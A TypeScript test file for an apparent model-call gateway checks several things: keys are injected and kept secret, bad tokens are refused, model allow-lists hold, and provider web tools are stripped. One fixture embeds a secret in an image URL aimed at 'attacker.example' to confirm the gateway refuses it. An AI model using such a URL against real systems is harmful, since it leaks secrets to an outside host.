// The gateway on its real socket, with a real database and a model service that is a real HTTP server.
import { once } from 'node:events'
import { createServer, type IncomingMessage, request, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { text } from 'node:stream/consumers'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type AttemptId, type Credential, newId } from '@sentra/contract'
import { MODEL_TOKEN_HEADER } from '@sentra/contract/runner'
import { type App, inTenant, LOCAL_TENANT } from '#platform'
import { closeModelCalls, endModelCall, findLastModelCall } from '#usage'
import { closeApp, makeApp } from '../../test/app.ts'
import { createTestDatabase, type TestDatabase } from '../../test/database.ts'
import { insertWork } from '../../test/work.ts'
import { addCredential } from './add-credential.ts'
import { admitCall } from './admitted-calls-store.ts'
import { endGrant, issueGrant, serveGateway } from './index.ts'
import { removeCredential } from './remove-credential.ts'

const KEY = 'sk-real-0123456789'
const person = { tenantId: LOCAL_TENANT, userId: 'usr-1', role: 'tenant_admin' } as const

let db: TestDatabase
let app: App
let stopGateway: () => Promise<void>
let service: Server
let answer: (request: IncomingMessage, response: ServerResponse, body: string) => void
let seen: { headers: IncomingMessage['headers']; url: string | undefined; body: string }[]

beforeAll(async () => {
  db = await createTestDatabase()
  app = makeApp(db)
  stopGateway = await serveGateway(app)
})
afterAll(async () => {
  await stopGateway()
  await closeApp(app, db)
})

beforeEach(async () => {
  seen = []
  service = createServer(async (incoming, outgoing) => {
    const body = await text(incoming)
    seen.push({ headers: incoming.headers, url: incoming.url, body })
    answer(incoming, outgoing, body)
  })
  service.listen(0, '127.0.0.1')
  await once(service, 'listening')
})
afterEach(async () => {
  service.closeAllConnections()
  await new Promise((resolve) => service.close(resolve))
})

const origin = () => `http://127.0.0.1:${(service.address() as AddressInfo).port}`

type Access = { token: string; attemptId: AttemptId; credential: Credential }

type Wanted = {
  wire: Credential['wire']
  key?: string
  tenantId?: string
  providerTools?: boolean
  models?: string[]
}

/** A live attempt that may call the service. */
async function grantAccess(input: Wanted): Promise<Access> {
  const tenantId = input.tenantId ?? LOCAL_TENANT
  const attemptId = (await insertWork(db, tenantId)).attemptId as AttemptId
  await db.sql('delete from sentra.model_calls where attempt_id = $1', [attemptId])
  await db.sql('delete from sentra.model_grants where attempt_id = $1', [attemptId])
  return inTenant(app.database, tenantId, async (tx) => {
    const name = `service-${newId('token')}`
    const principal = { ...person, tenantId }
    const baseUrl = origin() + (input.wire === 'openai' ? '/v1' : '')
    const credential = await addCredential(
      tx,
      { app, principal },
      { name, wire: input.wire, baseUrl, key: input.key ?? KEY },
    )
    const { models = null, providerTools = false } = input
    return {
      token: await issueGrant(tx, { attemptId, credentialId: credential.id, models, providerTools }),
      attemptId,
      credential,
    }
  })
}

function call(token: string, path: string, body: object = { model: 'm' }): Promise<IncomingMessage> {
  const headers = { authorization: 'Bearer sentra', 'content-type': 'application/json', [MODEL_TOKEN_HEADER]: token }
  const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path, headers })
  outgoing.end(JSON.stringify(body))
  return new Promise((resolve, reject) => outgoing.once('response', resolve).once('error', reject))
}

/** The record of a call that is not forwarded yet. */
async function admitted({ token, credential }: Access, path: string): Promise<number> {
  const asked = { token, openOn: [credential.wire], path, model: null, removed: [] }
  return (await admitCall(app, LOCAL_TENANT, asked))?.callId ?? 0
}

const callsOf = ({ attemptId }: Access) =>
  db.sql(
    'select path, model, status, error, input_tokens, output_tokens, ended_at from sentra.model_calls where attempt_id = $1',
    [attemptId],
  )

/** The record is completed after the agent has its answer. */
async function endedCallOf(access: Access) {
  await expect.poll(async () => (await callsOf(access))[0]?.['ended_at']).toBeTruthy()
  return (await callsOf(access))[0]
}

test('a call arrives with the real key, and is recorded with its tokens', async () => {
  answer = (_request, response) =>
    response
      .writeHead(200, { 'content-type': 'application/json', 'set-cookie': 'session=1' })
      .end(JSON.stringify({ answer: 'hello', usage: { input_tokens: 11, output_tokens: 7 } }))
  const access = await grantAccess({ wire: 'openai' })
  const response = await call(access.token, '/v1/responses', { model: 'gpt-x', input: 'hi' })
  expect(response.statusCode).toBe(200)
  expect(JSON.parse(await text(response))).toMatchObject({ answer: 'hello' })
  expect(response.headers).not.toHaveProperty('set-cookie')
  expect(seen).toHaveLength(1)
  expect(seen[0]).toMatchObject({ url: '/v1/responses', body: '{"model":"gpt-x","input":"hi"}' })
  expect(seen[0]?.headers.authorization).toBe(`Bearer ${KEY}`)
  expect(JSON.stringify(seen[0]?.headers)).not.toContain(access.token)
  expect(await endedCallOf(access)).toMatchObject({
    path: '/v1/responses',
    model: 'gpt-x',
    status: 200,
    error: null,
    input_tokens: 11,
    output_tokens: 7,
  })
})

test('the key is in no column of the database', async () => {
  const { credential } = await grantAccess({ wire: 'anthropic' })
  expect(credential.hint).toBe('…6789')
  for (const table of ['credentials', 'audit_entries', 'events', 'idempotency_keys', 'model_grants']) {
    const rows = await db.sql(`select t::text as row from sentra.${table} t`)
    expect(JSON.stringify(rows)).not.toContain(KEY)
    expect(JSON.stringify(rows)).not.toContain(Buffer.from(KEY).toString('hex'))
  }
})

test('a name that only looks known is no service', async () => {
  const add = inTenant(app.database, LOCAL_TENANT, (tx) =>
    addCredential(tx, { app, principal: person }, { name: 'constructor', key: KEY }),
  )
  await expect(add).rejects.toMatchObject({ code: 'INVALID_INPUT' })
})

test('a stream passes piece by piece: the second is only sent when the first has arrived', async () => {
  let goOn = () => {}
  answer = (_request, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' }).write('data: {"first":1}\n\n')
    goOn = () => response.end('data: {"type":"message_delta","usage":{"output_tokens":5,"input_tokens":2}}\n\n')
  }
  const access = await grantAccess({ wire: 'anthropic' })
  const response = await call(access.token, '/v1/messages?beta=true', { model: 'm', stream: true })
  const [first] = (await once(response, 'data')) as [Buffer]
  expect(first.toString()).toContain('first')
  goOn()
  expect(await text(response)).toContain('message_delta')
  expect(await endedCallOf(access)).toMatchObject({ input_tokens: 2, output_tokens: 5 })
})

test('an agent that hangs up ends the call to the service', async () => {
  const hungUp = Promise.withResolvers<void>()
  answer = (_request, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream' }).write('data: {}\n\n')
    response.once('close', hungUp.resolve)
  }
  const access = await grantAccess({ wire: 'anthropic' })
  const response = await call(access.token, '/v1/messages')
  response.destroy()
  await hungUp.promise
  expect(await endedCallOf(access)).toMatchObject({ error: 'the agent hung up' })
})

test('a call whose server was killed has an end once its attempt is over, a late one keeps its own', async () => {
  const access = await grantAccess({ wire: 'openai' })
  const { attemptId } = access
  const ids = [await admitted(access, '/v1/responses'), await admitted(access, '/v1/responses')]
  const late = { status: 200, error: null, inputTokens: 1, cachedInputTokens: 0, outputTokens: 1 }
  await inTenant(app.database, LOCAL_TENANT, async (tx) => {
    await closeModelCalls(tx, attemptId)
    await endModelCall(tx, ids[1] ?? 0, late)
  })
  const ended = await callsOf(access)
  expect(ended.map((row) => row['ended_at'] === null)).toEqual([false, false])
  expect(new Set(ended.map((row) => row['error']))).toEqual(new Set(['the server went away during the call', null]))
})

test('what a service says of its models or of counting tokens is not how the model did', async () => {
  const access = await grantAccess({ wire: 'anthropic' })
  const outcome = { error: null, inputTokens: 0, cachedInputTokens: 0, outputTokens: 0 }
  const last = await inTenant(app.database, LOCAL_TENANT, async (tx) => {
    for (const [path, status] of [
      ['/v1/messages', 200],
      ['/v1/messages/count_tokens', 501],
      ['/v1/models', 403],
    ] as const) {
      await endModelCall(tx, await admitted(access, path), { ...outcome, status })
    }
    return findLastModelCall(tx, access.attemptId)
  })
  expect(last).toMatchObject({ status: 200 })
})

describe('is refused in the words of its provider, and nothing reaches the service:', () => {
  const refusal = async (response: IncomingMessage) => ({
    status: response.statusCode,
    body: JSON.parse(await text(response)) as unknown,
  })

  test('a token that nobody gave out', async () => {
    const denied = { status: 403, body: { type: 'error', error: { type: 'permission_error' } } }
    expect(await refusal(await call('guess', '/v1/messages'))).toMatchObject(denied)
    expect(seen).toEqual([])
  })

  test('the token of an attempt that is over', async () => {
    const { token, attemptId } = await grantAccess({ wire: 'openai' })
    await inTenant(app.database, LOCAL_TENANT, (tx) => endGrant(tx, attemptId))
    expect(await refusal(await call(token, '/v1/responses'))).toMatchObject({ status: 403, body: { error: {} } })
    expect(seen).toEqual([])
  })

  test('the token of an earlier lease', async () => {
    const { token, attemptId, credential } = await grantAccess({ wire: 'openai' })
    await inTenant(app.database, LOCAL_TENANT, (tx) =>
      issueGrant(tx, { attemptId, credentialId: credential.id, models: null, providerTools: false }),
    )
    expect(await refusal(await call(token, '/v1/responses'))).toMatchObject({ status: 403 })
    expect(seen).toEqual([])
  })

  test('a key that was removed', async () => {
    const { token, credential } = await grantAccess({ wire: 'openai' })
    await inTenant(app.database, LOCAL_TENANT, (tx) => removeCredential(tx, person, credential.id))
    expect(await refusal(await call(token, '/v1/responses'))).toMatchObject({ status: 403 })
    expect(seen).toEqual([])
  })

  test('the token of another tenant', async () => {
    const { token } = await grantAccess({ wire: 'openai', tenantId: 'other' })
    expect(await refusal(await call(token, '/v1/responses'))).toMatchObject({ status: 403 })
    expect(seen).toEqual([])
  })

  test('a path that is no model call', async () => {
    const access = await grantAccess({ wire: 'openai' })
    expect(await refusal(await call(access.token, '/v1/files'))).toMatchObject({ status: 404 })
    expect(await callsOf(access)).toEqual([])
    expect(seen).toEqual([])
  })

  test('what is no JSON, and what is too large', async () => {
    const { token } = await grantAccess({ wire: 'openai' })
    const headers = { [MODEL_TOKEN_HEADER]: token }
    const send = async (body: string | Buffer) => {
      const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path: '/v1/responses', headers })
      outgoing.on('error', () => {}) // cut while it is still sending
      outgoing.end(body)
      const [response] = (await once(outgoing, 'response')) as [IncomingMessage]
      return response.statusCode
    }
    expect(await send('{no')).toBe(400)
    expect(await send(Buffer.alloc(33 * 1024 * 1024))).toBe(413)
    expect(seen).toEqual([])
  })
})

describe('what the service would do with its own network', () => {
  const search = { type: 'web_search', external_web_access: true }
  const own = { type: 'function', name: 'exec_command', parameters: {} }
  const page = { role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/?q=secret' }] }
  const linesOf = ({ attemptId }: Access) =>
    db.sql('select level, message from sentra.logs where attempt_id = $1 and line > 1 order by line', [attemptId])

  beforeEach(() => {
    answer = (_request, response) => response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
  })

  test('is taken out of a call; its record says so each time, the log of the run once', async () => {
    const access = await grantAccess({ wire: 'openai' })
    for (const input of ['first', 'second']) {
      const response = await call(access.token, '/v1/responses', { model: 'm', input, tools: [own, search] })
      expect([response.statusCode, await text(response)]).toEqual([200, '{}'])
    }
    expect(seen.map(({ body }) => JSON.parse(body))).toEqual([
      { model: 'm', input: 'first', tools: [own] },
      { model: 'm', input: 'second', tools: [own] },
    ])
    const removed = `select removed_tools from sentra.model_calls where attempt_id = $1 and removed_tools <> '{}'`
    await expect.poll(() => db.sql(removed, [access.attemptId])).toHaveLength(2)
    expect(await linesOf(access)).toEqual([
      { level: 'info', message: expect.stringContaining('Left out of model calls: web_search.') },
    ])
  })

  test('is refused in words where the call names an address, and nothing reaches the service', async () => {
    const access = await grantAccess({ wire: 'openai' })
    const response = await call(access.token, '/v1/responses', { model: 'm', input: [page] })
    expect(response.statusCode).toBe(400)
    expect(JSON.parse(await text(response))).toMatchObject({
      error: { type: 'invalid_request_error', message: expect.stringMatching(/image_url.*--provider-tools allow/) },
    })
    expect(seen).toEqual([])
    expect(await endedCallOf(access)).toMatchObject({
      model: 'm',
      status: 400,
      error: expect.stringContaining('address'),
    })
    expect(await linesOf(access)).toEqual([{ level: 'warn', message: expect.stringContaining('was refused') }])
  })

  test('passes as it came when a person allowed it', async () => {
    const access = await grantAccess({ wire: 'openai', providerTools: true })
    const body = { model: 'm', input: [page], tools: [search] }
    const response = await call(access.token, '/v1/responses', body)
    expect([response.statusCode, await text(response)]).toEqual([200, '{}'])
    expect(seen.map((one) => JSON.parse(one.body))).toEqual([body])
    await endedCallOf(access)
    expect(await linesOf(access)).toEqual([])
  })

  test('does not slip in as a second field of the same name', async () => {
    const { token } = await grantAccess({ wire: 'openai' })
    const headers = { 'content-type': 'application/json; charset=utf-7', [MODEL_TOKEN_HEADER]: token }
    const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path: '/v1/responses', headers })
    outgoing.end(`{"tools":[${JSON.stringify(search)}],"model":"m","tools":[${JSON.stringify(own)}]}`)
    await once(outgoing, 'response')
    expect(seen[0]?.body).not.toContain('web_search')
    expect(seen[0]?.headers['content-type']).toBe('application/json')
  })
})

describe('the models of a grant', () => {
  test.each<[string, object]>([
    ['another model', { model: 'large-1' }],
    ['another one to fall back on', { model: 'small-1', models: ['small-1', 'large-1'] }],
    ['none at all', { messages: [] }],
    ['a name of no end, and no text', { model: `small-1\u0000${'x'.repeat(100_000)}` }],
  ])('are the only ones: %s is refused with those that are allowed', async (_what, body) => {
    const access = await grantAccess({ wire: 'openai', models: ['small-1'] })
    const response = await call(access.token, '/v1/chat/completions', body)
    expect(response.statusCode).toBe(400)
    expect(JSON.parse(await text(response))).toMatchObject({
      error: { message: expect.stringContaining('it may call small-1') },
    })
    expect(seen).toEqual([])
    expect(await endedCallOf(access)).toMatchObject({ status: 400, error: expect.stringContaining('small-1') })
  })

  test('can be called, and listed', async () => {
    answer = (_request, response) => response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
    const { token } = await grantAccess({ wire: 'openai', models: ['small-1'] })
    expect((await call(token, '/v1/chat/completions', { model: 'small-1' })).statusCode).toBe(200)
    const headers = { [MODEL_TOKEN_HEADER]: token }
    const listing = request({ socketPath: app.paths.gatewaySocket, path: '/v1/models', headers }).end()
    expect(((await once(listing, 'response')) as [IncomingMessage])[0].statusCode).toBe(200)
  })
})

test('who may not call is told so before its body has come', async () => {
  const headers = { [MODEL_TOKEN_HEADER]: 'guess', 'content-length': 2_000_000 }
  const outgoing = request({ socketPath: app.paths.gatewaySocket, method: 'POST', path: '/v1/messages', headers })
  outgoing.flushHeaders()
  const [response] = (await once(outgoing, 'response')) as [IncomingMessage]
  expect(response.statusCode).toBe(403)
  outgoing.destroy()
})

describe('when the service fails', () => {
  test('its own refusal is passed on and kept for the person', async () => {
    const words = '{"error":{"message":"no such model"}}'
    answer = (_request, response) => response.writeHead(400, { 'content-type': 'application/json' }).end(words)
    const access = await grantAccess({ wire: 'openai' })
    const response = await call(access.token, '/v1/chat/completions')
    expect([response.statusCode, await text(response)]).toEqual([400, words])
    expect(await endedCallOf(access)).toMatchObject({ status: 400, error: expect.stringContaining('no such model') })
  })

  test.each([
    ['whole', KEY],
    ['in part', 'sk-proj-****6789'],
  ])('a refusal that quotes the key %s tells it to nobody', async (_how, quoted) => {
    answer = (_request, response) => response.writeHead(401).end(`{"error":"Incorrect key ${quoted}, see docs"}`)
    const access = await grantAccess({ wire: 'openai' })
    const response = await call(access.token, '/v1/chat/completions')
    expect(response.statusCode).toBe(401)
    const body = await text(response)
    expect(JSON.parse(body)).toMatchObject({ error: { message: expect.stringContaining('refuses the key') } })
    const ended = await endedCallOf(access)
    expect(ended).toMatchObject({ status: 401, error: 'HTTP 401: {"error":"Incorrect key [key], see docs"}' })
    expect(body + JSON.stringify(ended)).not.toContain('6789')
  })

  test('a key that cannot be unsealed ends the call and its record, and is not tried again', async () => {
    const access = await grantAccess({ wire: 'anthropic' })
    await db.sql(`update sentra.credentials set sealed_key = 'other' where id = $1`, [access.credential.id])
    const response = await call(access.token, '/v1/messages')
    expect([response.statusCode, await text(response)]).toEqual([403, expect.stringContaining('add the key again')])
    expect(await endedCallOf(access)).toMatchObject({ status: 403, error: expect.stringContaining('add the key') })
    expect(seen).toEqual([])
  })

  test('a service that is not there is an error that agents try again', async () => {
    const access = await grantAccess({ wire: 'anthropic' })
    service.closeAllConnections()
    await new Promise((resolve) => service.close(resolve))
    const response = await call(access.token, '/v1/messages')
    expect(response.statusCode).toBe(503)
    expect(JSON.parse(await text(response))).toMatchObject({ error: { type: 'overloaded_error' } })
    expect(await endedCallOf(access)).toMatchObject({ status: null, error: expect.stringContaining('reached') })
  })

  test.each([
    ['anthropic', '/v1/messages', 'event: error'],
    ['openai', '/v1/chat/completions', '"server_error"'],
    ['openai', '/v1/responses', 'event: error'],
  ] as const)('a stream of %s %s that breaks off ends in an error of its own kind', async (wire, path, expected) => {
    answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' }).write('data: {"half')
      setTimeout(() => response.socket?.destroy(), 20)
    }
    const access = await grantAccess({ wire })
    const body = await text(await call(access.token, path))
    expect(body.startsWith('data: {"half\n\n')).toBe(true)
    expect(body).toContain(expected)
    expect(await endedCallOf(access)).toMatchObject({ error: expect.stringContaining('broke off') })
  })
})
